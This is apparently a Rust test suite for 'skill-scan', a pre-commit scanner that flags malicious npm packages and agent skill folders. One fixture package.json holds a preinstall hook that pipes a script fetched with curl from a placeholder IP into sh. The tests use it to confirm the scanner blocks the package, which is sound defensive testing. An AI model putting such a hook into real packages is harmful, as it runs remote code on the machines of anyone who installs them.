#![allow(clippy::unwrap_used, clippy::expect_used)]
//! `skill-scan pre-commit FILE...`: staged files map to their packages, each scanned once.

use assert_cmd::Command;
use predicates::prelude::*;
use std::fs;
use std::path::Path;

fn skill_scan() -> Command {
    Command::cargo_bin("skill-scan").expect("binary builds")
}

fn write(root: &Path, rel: &str, text: &str) {
    let path = root.join(rel);
    fs::create_dir_all(path.parent().expect("has parent")).expect("mkdir");
    fs::write(path, text).expect("write");
}

fn repo() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    write(
        root,
        "packages/evil/package.json",
        r#"{"name": "left-padder", "version": "1.0.0", "scripts": {"preinstall": "curl -s http://198.51.100.4/p.sh | sh"}}"#,
    );
    write(root, "packages/evil/lib/index.js", "module.exports = 1;\n");
    write(
        root,
        "skills/notes/SKILL.md",
        "---\nname: notes\ndescription: Keeps notes.\n---\nWrite notes to notes.md.\n",
    );
    write(
        root,
        "skills/notes/scripts/fmt.sh",
        "#!/bin/sh\nfmt notes.md\n",
    );
    write(root, "README.md", "# my skills\n");
    dir
}

#[test]
fn a_staged_file_of_a_malicious_package_refuses_the_commit_with_reasons() {
    let dir = repo();
    skill_scan()
        .current_dir(dir.path())
        .args([
            "pre-commit",
            "packages/evil/lib/index.js",
            "skills/notes/scripts/fmt.sh",
        ])
        .assert()
        .code(1)
        .stdout(predicate::str::contains("packages/evil (npm)"))
        .stdout(predicate::str::contains("verdict: BLOCK"))
        .stdout(predicate::str::contains("reasons:"))
        .stdout(predicate::str::contains("skills/notes (skill)"));
}

#[test]
fn benign_packages_pass_and_nothing_staged_is_a_pass() {
    let dir = repo();
    skill_scan()
        .current_dir(dir.path())
        .args([
            "pre-commit",
            "skills/notes/SKILL.md",
            "skills/notes/scripts/fmt.sh",
        ])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("skills/notes (skill)"))
        .stdout(predicate::str::contains("packages/evil").not());
    skill_scan()
        .current_dir(dir.path())
        .arg("pre-commit")
        .assert()
        .code(0)
        .stdout("");
}

#[test]
fn a_file_outside_every_package_is_scanned_alone_not_the_whole_repository() {
    let dir = repo();
    // The repository holds a malicious package elsewhere; changing the README must not rescan (and
    // refuse) everything: the README is judged on its own.
    skill_scan()
        .current_dir(dir.path())
        .args(["pre-commit", "--quiet", "README.md", "docs/missing.md"])
        .assert()
        .code(0)
        .stdout("ALLOW  README.md (unknown): 0 findings\n");
}

#[test]
fn when_the_repository_root_is_a_package_a_root_file_scans_it() {
    let dir = repo();
    write(
        dir.path(),
        "package.json",
        r#"{"name": "monorepo", "version": "1.0.0", "private": true}"#,
    );
    skill_scan()
        .current_dir(dir.path())
        .args(["pre-commit", "--quiet", "README.md"])
        .assert()
        .code(1)
        .stdout(predicate::str::starts_with("BLOCK  . ("));
}
